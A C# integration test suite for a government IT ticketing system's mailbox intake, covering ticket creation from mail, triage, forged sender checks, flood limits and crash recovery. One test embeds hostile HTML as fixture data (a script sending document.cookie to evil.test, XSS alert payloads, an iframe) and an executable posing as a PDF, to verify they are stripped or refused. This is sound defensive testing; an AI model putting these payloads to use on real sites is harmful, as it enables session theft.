using MailKit;
using MailKit.Net.Imap;
using MailKit.Search;
using Microsoft.AspNetCore.Identity;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;
using MimeKit;
using XinchuangFlow.Application;
using XinchuangFlow.Application.Access;
using XinchuangFlow.Application.Mail;
using XinchuangFlow.Application.Notifications;
using XinchuangFlow.Domain.Tickets;
using XinchuangFlow.Infrastructure.Mail;
using XinchuangFlow.Infrastructure.Persistence;
using XinchuangFlow.Infrastructure.Tests.Support;
using IMailStore = XinchuangFlow.Application.Mail.IMailStore;

namespace XinchuangFlow.Infrastructure.Tests;

/// <summary>
/// The service mailbox (INT-3) against real servers on loopback: Debian's dovecot for IMAP, aiosmtpd for the answers.
/// Mail is put into the mailbox over IMAP (APPEND), or — for bytes no mail client would write — dropped into its Maildir.
/// </summary>
public abstract class MailboxTestBase : IAsyncLifetime
{
    private static readonly DateTimeOffset T0 = new(2026, 11, 27, 1, 0, 0, TimeSpan.Zero);
    protected const string Clerk = "clerk@qxcz.gov.test";      // a user of 青秀区财政局
    protected const string Teacher = "teacher@xnjy.gov.test";  // a user of 兴宁区教育局
    protected readonly DovecotServer _imap = new();
    protected readonly AiosmtpdServer _smtp = new();
    protected EngineHarness _h = null!;
    protected ProcurementUnit _qingxiu = null!, _xingning = null!;
    protected abstract ITestDatabases Databases { get; }

    protected ImapMailboxPoller Poller => _h.Services.GetRequiredService<ImapMailboxPoller>();
    protected MailboxService Mailbox => _h.Services.GetRequiredService<MailboxService>();
    protected NotificationDeliveryService Delivery => _h.Services.GetRequiredService<NotificationDeliveryService>();
    protected static readonly Actor Desk = Actor.Of("dispatcher@test", [Roles.Dispatcher]);

    public async Task InitializeAsync()
    {
        try { await StartAsync(); }
        catch
        {
            // xUnit does not dispose a class whose start failed: the servers must not outlive it.
            _imap.Dispose();
            _smtp.Dispose();
            throw;
        }
    }

    private async Task StartAsync()
    {
        await _imap.StartAsync();
        await _smtp.StartAsync();
        _h = await EngineHarness.StartAsync(Databases.Provider, await Databases.CreateAsync(), new FakeTimeProvider(T0), scheduler: Scheduler, configure: Configure, settings: new Dictionary<string, string?>
        {
            ["Mailbox:Address"] = _imap.User,
            ["Mailbox:TrustedAuthServId"] = "mx.xf.test",
            ["Mailbox:MaxMessageBytes"] = (1024 * 1024).ToString(),
            ["Mailbox:MaxPerSenderPerHour"] = "10",
            ["Mailbox:Imap:Host"] = "127.0.0.1",
            ["Mailbox:Imap:Port"] = _imap.Port.ToString(),
            ["Mailbox:Imap:User"] = _imap.User,
            ["Mailbox:Imap:Password"] = _imap.Password,
            ["Notifications:Smtp:Host"] = "127.0.0.1",
            ["Notifications:Smtp:Port"] = _smtp.Port.ToString(),
            ["Notifications:Smtp:From"] = _imap.User,
        });
        await _h.Initializer.ImportAsync(CancellationToken.None);
        var factory = _h.Services.GetRequiredService<IDbContextFactory<XfDbContext>>();
        var net = await ScenarioNetwork.CreateAsync(factory);
        _qingxiu = new ProcurementUnit { Id = Guid.CreateVersion7(), Name = "青秀区财政局", CityCode = "4501", CountyCode = ScenarioNetwork.Qingxiu, IntegratorId = net.ValidNanning.EnterpriseId };
        _xingning = new ProcurementUnit { Id = Guid.CreateVersion7(), Name = "兴宁区教育局", CityCode = "4501", CountyCode = ScenarioNetwork.Qingxiu, IntegratorId = net.ValidNanning.EnterpriseId };
        await using var db = await factory.CreateDbContextAsync();
        db.ProcurementUnits.AddRange(_qingxiu, _xingning);
        var role = new IdentityRole(Roles.ProcurementUser) { Id = Guid.NewGuid().ToString(), NormalizedName = Roles.ProcurementUser.ToUpperInvariant() };
        db.Roles.Add(role);
        foreach (var (login, unit, name) in new[] { (Clerk, _qingxiu, "陆工"), (Teacher, _xingning, "韦老师") })
        {
            var user = new AppUser { Id = Guid.NewGuid().ToString(), UserName = login, NormalizedUserName = login.ToUpperInvariant(), Email = login,
                NormalizedEmail = login.ToUpperInvariant(), DisplayName = name, ProcurementUnitId = unit.Id };
            db.Users.Add(user);
            db.UserRoles.Add(new IdentityUserRole<string> { UserId = user.Id, RoleId = role.Id });
        }
        await db.SaveChangesAsync();
    }

    /// <summary>With the node's background jobs (the mailbox poller among them).</summary>
    protected virtual bool Scheduler => false;

    /// <summary>Tests that simulate a crash replace the store.</summary>
    protected virtual void Configure(IServiceCollection services) { }

    public async Task DisposeAsync()
    {
        await _h.DisposeAsync();
        await Databases.DisposeAsync();
        _imap.Dispose();
        _smtp.Dispose();
    }

    // ---- helpers ----

    protected static MimeMessage Mail(string from, string subject, string text, string? authResults = "pass", string? inReplyTo = null, params (string Name, string Type, byte[] Content)[] files)
    {
        var m = new MimeMessage { Subject = subject, MessageId = MimeKit.Utils.MimeUtils.GenerateMessageId("sender.test") };
        m.From.Add(new MailboxAddress("", from));
        m.To.Add(new MailboxAddress("", "service@xf.test"));
        if (inReplyTo is not null) { m.InReplyTo = inReplyTo; m.References.Add(inReplyTo); }
        var domain = from.Split('@')[1];
        if (authResults is not null) m.Headers.Add("Authentication-Results", $"mx.xf.test; spf={authResults} smtp.mailfrom={from}; dkim={authResults} header.d={domain}");
        var body = new BodyBuilder { TextBody = text };
        foreach (var (name, type, content) in files) body.Attachments.Add(name, content, ContentType.Parse(type));
        m.Body = body.ToMessageBody();
        return m;
    }

    protected async Task PutAsync(params MimeMessage[] messages)
    {
        using var client = new ImapClient();
        await client.ConnectAsync("127.0.0.1", _imap.Port, MailKit.Security.SecureSocketOptions.None);
        await client.AuthenticateAsync(_imap.User, _imap.Password);
        foreach (var chunk in messages.Chunk(100))
            await client.Inbox.AppendAsync(chunk.Select(m => (IAppendRequest)new AppendRequest(m, MessageFlags.None)).ToList());
        await client.DisconnectAsync(true);
    }

    /// <summary>Bytes no client would send, dropped where the mail server delivers (its Maildir).</summary>
    protected async Task DropRawAsync(byte[] raw)
    {
        await PutAsync();   // the first login creates the Maildir
        var dir = Path.Combine(_imap.Root, "home", _imap.User, "Maildir", "new");
        var file = Path.Combine(dir, $"{DateTimeOffset.UtcNow.ToUnixTimeSeconds()}.{Guid.NewGuid():N}.test");
        await File.WriteAllBytesAsync(file, raw);
        if (!OperatingSystem.IsWindows()) File.SetUnixFileMode(file, (UnixFileMode)0x1B6);
    }

    /// <summary>How many messages in the mailbox are not yet marked processed.</summary>
    protected async Task<int> UnprocessedAsync()
    {
        using var client = new ImapClient();
        await client.ConnectAsync("127.0.0.1", _imap.Port, MailKit.Security.SecureSocketOptions.None);
        await client.AuthenticateAsync(_imap.User, _imap.Password);
        await client.Inbox.OpenAsync(FolderAccess.ReadOnly);
        var n = (await client.Inbox.SearchAsync(SearchQuery.NotKeyword(ImapMailboxPoller.ProcessedKeyword))).Count;
        await client.DisconnectAsync(true);
        return n;
    }

    protected async Task<List<Ticket>> EmailTicketsAsync()
    {
        await using var db = await _h.Services.GetRequiredService<IDbContextFactory<XfDbContext>>().CreateDbContextAsync();
        return await db.Tickets.AsNoTracking().Where(t => t.Channel == "email").OrderBy(t => t.CreatedAt).ToListAsync();
    }

    /// <summary>Every record, in the order the mailbox handled them (the log's pages, oldest first).</summary>
    protected async Task<List<MailRecord>> RecordsAsync()
    {
        var all = new List<MailRecord>();
        for (var skip = 0; ; skip += 200)
        {
            var (items, total) = await Mailbox.ListAsync(Desk, null, skip, 200);
            all.AddRange(items);
            if (all.Count >= total || items.Count == 0) break;
        }
        all.Reverse();
        return all;
    }

    protected async Task SendAnswersAsync()
    {
        while ((await Delivery.RunOnceAsync()).Item2 > 0) { }
    }

    protected static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0];
}

public abstract class MailboxTests : MailboxTestBase
{
    // ---- the story ----

    [Fact]
    public async Task AMailFromAUnitsUser_BecomesATicket_TheSenderIsAnsweredWithTheNumber_AndTheAnswersReplyJoinsTheTicket()
    {
        var first = Mail(Clerk, "财务室电脑无法开机", "今天上午起财务室的电脑按电源键无反应，指示灯不亮。\n联系电话 0771-5550101", files: ("故障.png", "image/png", Png));
        await PutAsync(first);
        var round = await Poller.PollOnceAsync();
        Assert.Equal((1, 1, 0), (round.Seen, round.Handled, round.Failed));

        // The ticket: channel email, the clerk's unit, the subject and text, the picture, category guessed from the text.
        var ticket = Assert.Single(await EmailTicketsAsync());
        Assert.Equal((_qingxiu.Id, "财务室电脑无法开机", "terminal", Clerk, Clerk), (ticket.ProcurementUnitId!.Value, ticket.Title, ticket.ProductCategory, ticket.ContactEmail, ticket.CreatedBy));
        Assert.Contains("指示灯不亮", ticket.Description);
        Assert.NotNull(ticket.Grade);             // it runs the same flow: graded and dispatched
        Assert.NotNull(ticket.TechnicianUser);
        var files = await _h.Services.GetRequiredService<XinchuangFlow.Application.Tickets.IAttachmentStore>().ListAsync(ticket.Id);
        Assert.Equal(("故障.png", "image/png"), (Assert.Single(files).FileName, files[0].ContentType));
        Assert.Equal(0, await UnprocessedAsync());

        // The answer arrives at the sender with the number, threaded to the first mail.
        await SendAnswersAsync();
        var answer = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(Assert.Single(_smtp.Messages()))));
        Assert.Contains(ticket.Number, answer.Subject);
        Assert.Equal(Clerk, answer.To.Mailboxes.Single().Address);
        Assert.Equal(first.MessageId, answer.InReplyTo);
        Assert.Contains(ticket.Number, answer.TextBody);

        // The clerk answers the answer (subject without the number: the thread header alone links it).
        var reply = Mail(Clerk, "补充情况", "换了插座仍然不亮，型号 P3301DN。", inReplyTo: answer.MessageId);
        await PutAsync(reply);
        await Poller.PollOnceAsync();
        Assert.Single(await EmailTicketsAsync());
        var line = Assert.Single(await _h.Services.GetRequiredService<ICaseDirectory>().HistoryAsync(ticket.Id), e => e.Kind == "mail");
        Assert.Contains("P3301DN", line.Note);
        Assert.Equal(Clerk, line.User);
        // And a message that only names the number in its subject joins it too.
        await PutAsync(Mail(Clerk, $"Re: [{ticket.Number}] 已受理", "技术员已联系我，谢谢。"));
        await Poller.PollOnceAsync();
        Assert.Equal(2, (await _h.Services.GetRequiredService<ICaseDirectory>().HistoryAsync(ticket.Id)).Count(e => e.Kind == "mail"));
        Assert.Equal([MailOutcomes.Ticket, MailOutcomes.Reply, MailOutcomes.Reply], (await RecordsAsync()).Select(r => r.Outcome));
        Assert.Single(await EmailTicketsAsync());
        Assert.Equal(0, await UnprocessedAsync());
        // Rounds after that find nothing to do.
        Assert.Equal(0, (await Poller.PollOnceAsync()).Seen);
    }

    [Fact]
    public async Task AnUnknownSender_GoesToTriage_IsAnswered_AndTheDeskFilesItForAUnit_OrSetsItAside()
    {
        await PutAsync(Mail("someone@elsewhere.test", "电脑蓝屏", "我是兴宁区教育局新来的，电脑总蓝屏。", files: ("log.txt", "text/plain", "BSOD 0x0000007B"u8.ToArray())),
                       Mail("ads@spam.test", "发票代开", "优惠代开发票"));
        await Poller.PollOnceAsync();
        Assert.Empty(await EmailTicketsAsync());
        var triage = (await Mailbox.ListAsync(Desk, MailOutcomes.Triage, 0, 10)).Items.OrderBy(r => r.FromAddress).ToList();
        Assert.Equal(["ads@spam.test", "someone@elsewhere.test"], triage.Select(r => r.FromAddress));
        Assert.All(triage, r => Assert.Contains("not the address of a procurement unit's user", r.Reason));
        await SendAnswersAsync();
        Assert.Equal(2, _smtp.Messages().Count);   // both told a person will look at it

        // An integrator's dispatcher does not see items of the regional desk; a unit's user cannot open the mailbox at all.
        var integrator = Actor.Of("integrator@test", [Roles.Dispatcher], enterpriseId: _qingxiu.IntegratorId);
        await Assert.ThrowsAsync<NotFoundException>(() => Mailbox.GetAsync(integrator, triage[1].Id));
        await Assert.ThrowsAsync<ForbiddenException>(() => Mailbox.ListAsync(Actor.Of(Clerk, [Roles.ProcurementUser], unitId: _qingxiu.Id), null, 0, 10));

        // The desk files the real request for the unit: the same intake, the mail's text and file, the sender answered.
        var filed = await Mailbox.FileAsTicketAsync(Desk, triage[1].Id, _xingning.Id);
        Assert.Equal(MailOutcomes.Filed, filed.Outcome);
        var ticket = Assert.Single(await EmailTicketsAsync());
        Assert.Equal((filed.TicketNumber, _xingning.Id, "os", "someone@elsewhere.test"), (ticket.Number, ticket.ProcurementUnitId!.Value, ticket.ProductCategory, ticket.ContactEmail));
        Assert.Single(await _h.Services.GetRequiredService<XinchuangFlow.Application.Tickets.IAttachmentStore>().ListAsync(ticket.Id));
        await Assert.ThrowsAsync<StateConflictException>(() => Mailbox.FileAsTicketAsync(Desk, triage[1].Id, _xingning.Id));
        // What the desk is told about the answer comes from its delivery: queued until the server took it, then sent.
        Assert.Equal(MailAnswer.Queued, (await Mailbox.AnswerAsync(Desk, filed.Id)).State);
        // The spam is set aside with a reason; without one it is refused.
        await Assert.ThrowsAsync<InvalidInputException>(() => Mailbox.DismissAsync(Desk, triage[0].Id, " "));
        Assert.Equal(MailOutcomes.Dismissed, (await Mailbox.DismissAsync(Desk, triage[0].Id, "广告")).Outcome);
        await SendAnswersAsync();
        var answers = _smtp.Messages();
        Assert.Equal(3, answers.Count);
        var answer = await Mailbox.AnswerAsync(Desk, filed.Id);
        Assert.Equal((MailAnswer.Sent, "someone@elsewhere.test"), (answer.State, answer.Address));
        Assert.NotNull(answer.SentAt);
        Assert.Equal(MailAnswer.Sent, (await Mailbox.AnswerAsync(Desk, triage[0].Id)).State);   // the spam's receipt went out before it was set aside
        Assert.Contains(answers, a => a.Contains(ticket.Number));
        Assert.Empty((await Mailbox.ListAsync(Desk, MailOutcomes.Triage, 0, 10)).Items);
    }

    // ---- hostile and broken mail ----

    [Fact]
    public async Task AForgedSender_AReplyFromAnotherUnit_AndAnAutoReply_AreNotFiledInTheirNames()
    {
        // A ticket of the clerk's unit exists.
        await PutAsync(Mail(Clerk, "终端无法开机", "按电源键无反应。"));
        await Poller.PollOnceAsync();
        var ticket = Assert.Single(await EmailTicketsAsync());

        // 1. The clerk's address, but the mailbox's own server says SPF and DKIM failed: triage, nobody answered.
        // 2. The clerk's address with a "pass" from a server that is not ours (the sender wrote it himself): triage too.
        var forged = Mail(Clerk, "紧急：请派人", "伪造的请求", authResults: "fail");
        var selfMade = Mail(Clerk, "紧急：请派人2", "自己写的认证结果", authResults: null);
        selfMade.Headers.Add("Authentication-Results", $"mx.attacker.test; spf=pass smtp.mailfrom={Clerk}; dkim=pass header.d=qxcz.gov.test");
        // 3. A user of another unit writes into the clerk's ticket (its number in the subject): not added to it.
        var intruder = Mail(Teacher, $"Re: [{ticket.Number}] 已受理", "请把这张单子关掉。");
        // 4. An auto-reply to one of our answers: recorded, never answered (no mail loop).
        var auto = Mail(Clerk, "自动回复：已受理", "我正在休假。");
        auto.Headers.Add("Auto-Submitted", "auto-replied");
        await PutAsync(forged, selfMade, intruder, auto);
        await Poller.PollOnceAsync();

        var records = (await RecordsAsync()).ToDictionary(r => r.Subject);
        Assert.Equal((MailOutcomes.Triage, MailOutcomes.Triage, MailOutcomes.Triage, MailOutcomes.Rejected),
            (records["紧急：请派人"].Outcome, records["紧急：请派人2"].Outcome, records[intruder.Subject!].Outcome, records["自动回复：已受理"].Outcome));
        Assert.Contains("could not verify the sender", records["紧急：请派人"].Reason);
        Assert.Contains("could not verify the sender", records["紧急：请派人2"].Reason);
        Assert.Contains($"names ticket {ticket.Number}, but {Teacher} is not of that ticket's unit", records[intruder.Subject!].Reason);
        Assert.Contains("automatic message", records["自动回复：已受理"].Reason);
        Assert.Single(await EmailTicketsAsync());
        Assert.DoesNotContain(await _h.Services.GetRequiredService<ICaseDirectory>().HistoryAsync(ticket.Id), e => e.Kind == "mail");
        await SendAnswersAsync();
        Assert.Single(_smtp.Messages());   // only the genuine first request was answered
        Assert.Equal(0, await UnprocessedAsync());
    }

    [Fact]
    public async Task HostileHtml_IsReadAsText_ALyingAttachmentIsRefused_AndTheTicketIsStillFiled()
    {
        var m = new MimeMessage { Subject = "系统更新后无法登录", MessageId = MimeKit.Utils.MimeUtils.GenerateMessageId("sender.test") };
        m.From.Add(new MailboxAddress("陆工", Clerk));
        m.To.Add(new MailboxAddress("", "service@xf.test"));
        m.Headers.Add("Authentication-Results", $"mx.xf.test; dmarc=pass header.from=qxcz.gov.test");
        var body = new BodyBuilder
        {
            HtmlBody = """
                <html><head><style>p{color:red}</style><script>fetch('http://evil.test/?c='+document.cookie)</script></head>
                <body><p onclick="alert(1)">统信UOS更新后<b>无法登录</b>，提示密码错误。</p><img src=x onerror="alert(2)">
                <a href="javascript:alert(3)">点我</a><iframe src="http://evil.test"></iframe><p>办公室 302</p></body></html>
                """,
        };
        // An executable that calls itself a PDF.
        body.Attachments.Add("说明.pdf", [0x4D, 0x5A, 0x90, 0x00, 0x03, 0, 0, 0, 0x04], ContentType.Parse("application/pdf"));
        m.Body = body.ToMessageBody();
        await PutAsync(m);
        await Poller.PollOnceAsync();

        var ticket = Assert.Single(await EmailTicketsAsync());
        Assert.Contains("统信UOS更新后无法登录，提示密码错误。", ticket.Description);
        Assert.Contains("办公室 302", ticket.Description);
        foreach (var bad in new[] { "script", "fetch", "cookie", "onclick", "onerror", "alert", "javascript", "iframe", "<", "color:red" })
            Assert.DoesNotContain(bad, ticket.Description, StringComparison.OrdinalIgnoreCase);
        Assert.Equal("os", ticket.ProductCategory);
        Assert.Empty(await _h.Services.GetRequiredService<XinchuangFlow.Application.Tickets.IAttachmentStore>().ListAsync(ticket.Id));
        var record = Assert.Single(await RecordsAsync());
        Assert.Contains("'说明.pdf' was not kept", record.Reason);
        await SendAnswersAsync();
        var answer = Assert.Single(_smtp.Messages());
        Assert.Contains(ticket.Number, answer);
    }

    [Fact]
    public async Task OversizedAndMalformedMail_IsRejectedWithAReason_AndTheMailAroundItIsFiled()
    {
        var big = Mail(Teacher, "扫描件", "见附件", files: ("scan.pdf", "application/pdf", [.. "%PDF-1.4\n"u8, .. new byte[1_500_000]]));
        await PutAsync(big, Mail(Clerk, "数据库连接失败", "达梦数据库连接超时。"));
        await DropRawAsync([.. "From: "u8, .. System.Text.Encoding.UTF8.GetBytes(Teacher), .. "\r\nAuthentication-Results: mx.xf.test; dmarc=pass header.from=xnjy.gov.test\r\nSubject: broken\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\nContent-Transfer-Encoding: base64\r\nMIME-Version: 1.0\r\n\r\n--b1\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n@@@@ not base64 @@@@\r\n--b1\r\nContent-Type: application/pdf; name=\"x.pdf\"\r\nContent-Disposition: attachment; filename=\"x.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%%\r\n"u8]);
        await DropRawAsync([0x00, 0xFF, 0xFE, 0x01, 0x02, 0x03, .. "\r\n\r\n\r\n"u8, 0x00, 0x00]);
        var round = await Poller.PollOnceAsync();
        Assert.Equal((4, 4, 0), (round.Seen, round.Handled, round.Failed));

        var records = await RecordsAsync();
        var oversized = Assert.Single(records, r => r.FromAddress == Teacher && r.Subject == "扫描件");
        Assert.Equal(MailOutcomes.Rejected, oversized.Outcome);
        Assert.Contains("accepts at most 1 MB", oversized.Reason);
        var tickets = await EmailTicketsAsync();
        Assert.Single(tickets);
        Assert.Equal("database", Assert.Single(tickets, t => t.Title == "数据库连接失败").ProductCategory);
        var broken = Assert.Single(records, r => r.Subject == "broken");
        // Its text part decodes to bytes that are no text: a person looks at it (the raw message is kept for them).
        Assert.Equal(MailOutcomes.Triage, broken.Outcome);
        Assert.Contains("could not be filed", broken.Reason);
        var garbage = Assert.Single(records, r => r.FromAddress is null);
        Assert.Equal(MailOutcomes.Rejected, garbage.Outcome);
        Assert.False(string.IsNullOrEmpty(garbage.Reason));
        Assert.Equal(0, await UnprocessedAsync());
        await SendAnswersAsync();
        Assert.Contains(_smtp.Messages(), a => a.Contains("Send large files through the portal"));
    }

    [Fact]
    public async Task AFloodOf500MessagesFromOneSender_IsHeld_AndDelaysNoOneElse()
    {
        var flood = Enumerable.Range(1, 500).Select(i => Mail(Teacher, $"测试邮件 {i}", "重复发送")).ToArray();
        await PutAsync(flood[..250]);
        await PutAsync(Mail(Clerk, "中间件服务无法启动", "东方通 TongWeb 启动报错。"));
        await PutAsync(flood[250..]);
        var round = await Poller.PollOnceAsync();
        Assert.Equal((501, 501, 0, 0), (round.Seen, round.Handled, round.Failed, round.Left));

        var records = await RecordsAsync();
        var tickets = await EmailTicketsAsync();
        // The clerk's request is among the first handled though 250 messages came before it: senders take turns
        // (ticket numbers count up in the order tickets are filed).
        var clerks = Assert.Single(records, r => r.FromAddress == Clerk);
        Assert.Equal(MailOutcomes.Ticket, clerks.Outcome);
        Assert.True(int.Parse(clerks.TicketNumber![^5..]) <= 2, clerks.TicketNumber);
        // Ten from the flood are filed (the hourly limit), one triage item says why, the rest are held; nobody else is answered.
        var fromTeacher = records.Where(r => r.FromAddress == Teacher).GroupBy(r => r.Outcome).ToDictionary(g => g.Key, g => g.Count());
        Assert.Equal(new Dictionary<string, int> { [MailOutcomes.Ticket] = 10, [MailOutcomes.Triage] = 1, [MailOutcomes.Held] = 489 }, fromTeacher);
        Assert.Contains("More than 10 messages", Assert.Single(records, r => r.Outcome == MailOutcomes.Triage).Reason);
        Assert.Equal(11, tickets.Count);
        Assert.Equal(0, await UnprocessedAsync());
        await SendAnswersAsync();
        Assert.Equal(11, _smtp.Messages().Count);
    }
}

/// <summary>A crash between the ticket's commit and the message's record: the next round files nothing twice and marks it.</summary>
public abstract class MailboxCrashTests : MailboxTestBase
{
    private readonly CrashOnce _crash = new();

    protected override void Configure(IServiceCollection services)
    {
        services.AddSingleton(_crash);
        services.AddSingleton<IMailStore>(sp => new CrashingMailStore(new EfMailStore(sp.GetRequiredService<IDbContextFactory<XfDbContext>>()), _crash));
    }

    public sealed class CrashOnce { public int Remaining; }

    private sealed class CrashingMailStore(IMailStore inner, CrashOnce crash) : IMailStore
    {
        public Task<MailRecord?> FindAsync(string key, CancellationToken ct = default) => inner.FindAsync(key, ct);
        public Task<MailRecord?> GetAsync(Guid id, CancellationToken ct = default) => inner.GetAsync(id, ct);
        public Task<MailRecord?> FindThreadAsync(IReadOnlyList<string> messageIds, IReadOnlyList<Guid> replyIds, CancellationToken ct = default) => inner.FindThreadAsync(messageIds, replyIds, ct);
        public Task<IReadOnlyDictionary<string, int>> CountFromAsync(string address, DateTimeOffset since, CancellationToken ct = default) => inner.CountFromAsync(address, since, ct);
        public Task AddAsync(MailRecord record, Delivery? answer, CancellationToken ct = default) =>
            Interlocked.Decrement(ref crash.Remaining) >= 0 ? throw new IOException("The node died before the message was recorded.") : inner.AddAsync(record, answer, ct);
        public Task<bool> ResolveAsync(Guid id, string outcome, string? ticketNumber, string? reason, string user, DateTimeOffset at, Delivery? answer, CancellationToken ct = default) =>
            inner.ResolveAsync(id, outcome, ticketNumber, reason, user, at, answer, ct);
        public Task<(IReadOnlyList<MailRecord> Items, int Total)> ListAsync(MailScope scope, string? outcome, int skip, int take, CancellationToken ct = default) =>
            inner.ListAsync(scope, outcome, skip, take, ct);
    }

    [Fact]
    public async Task ACrashAfterTheTicketWasCommitted_ButBeforeTheMessageWasMarked_ProcessesItOnce()
    {
        var poller = Poller;
        await PutAsync(Mail(Clerk, "终端无法开机", "按电源键无反应。"));
        _crash.Remaining = 1;
        var first = await poller.PollOnceAsync();
        Assert.Equal((1, 0, 1), (first.Seen, first.Handled, first.Failed));   // the ticket exists, the message is not marked
        Assert.Single(await EmailTicketsAsync());
        var second = await poller.PollOnceAsync();
        Assert.Equal((1, 1, 0), (second.Seen, second.Handled, second.Failed));
        Assert.Single(await EmailTicketsAsync());                                   // not twice
        Assert.Equal(0, (await poller.PollOnceAsync()).Seen);
        // The reply, crashed the same way, is added to the ticket's history once.
        var ticket = (await EmailTicketsAsync())[0];
        await PutAsync(Mail(Clerk, $"Re: [{ticket.Number}] 已受理", "还是不行。"));
        _crash.Remaining = 1;
        Assert.Equal(1, (await poller.PollOnceAsync()).Failed);
        Assert.Equal(1, (await poller.PollOnceAsync()).Handled);
        Assert.Single(await _h.Services.GetRequiredService<ICaseDirectory>().HistoryAsync(ticket.Id), e => e.Kind == "mail");
    }
}

/// <summary>The mailbox as a node runs it: connected, waiting in IMAP IDLE, woken by the server when mail arrives.</summary>
public abstract class MailboxIdleTests : MailboxTestBase
{
    protected override bool Scheduler => true;

    [Fact]
    public async Task ANodeWaitingInIdle_FilesNewMailWithinSeconds_ThoughItsPollIntervalIsAMinute()
    {
        await Task.Delay(1500);   // the job has connected, found nothing and gone idle
        var sent = DateTime.UtcNow;
        await PutAsync(Mail(Clerk, "显示器无信号", "主机正常开机，显示器提示无信号。"));
        List<Ticket> tickets = [];
        for (var i = 0; i < 100 && tickets.Count == 0; i++)
        {
            await Task.Delay(100);
            tickets = await EmailTicketsAsync();
        }
        var ticket = Assert.Single(tickets);
        Assert.Equal("显示器无信号", ticket.Title);
        Assert.True(DateTime.UtcNow - sent < TimeSpan.FromSeconds(10), "IDLE should wake the poller long before the 60 s interval");
        // The message is marked processed only after its ticket committed: a moment after the ticket shows.
        var unprocessed = await UnprocessedAsync();
        for (var i = 0; i < 50 && unprocessed > 0; i++)
        {
            await Task.Delay(100);
            unprocessed = await UnprocessedAsync();
        }
        Assert.Equal(0, unprocessed);
    }
}

public sealed class SqliteMailboxIdleTests : MailboxIdleTests
{
    protected override ITestDatabases Databases { get; } = new SqliteDatabases();
}

public sealed class SqliteMailboxTests : MailboxTests
{
    protected override ITestDatabases Databases { get; } = new SqliteDatabases();
}

public sealed class PostgreSqlMailboxTests : MailboxTests
{
    protected override ITestDatabases Databases { get; } = new PostgreSqlDatabases();
}

public sealed class SqliteMailboxCrashTests : MailboxCrashTests
{
    protected override ITestDatabases Databases { get; } = new SqliteDatabases();
}

public sealed class PostgreSqlMailboxCrashTests : MailboxCrashTests
{
    protected override ITestDatabases Databases { get; } = new PostgreSqlDatabases();
}
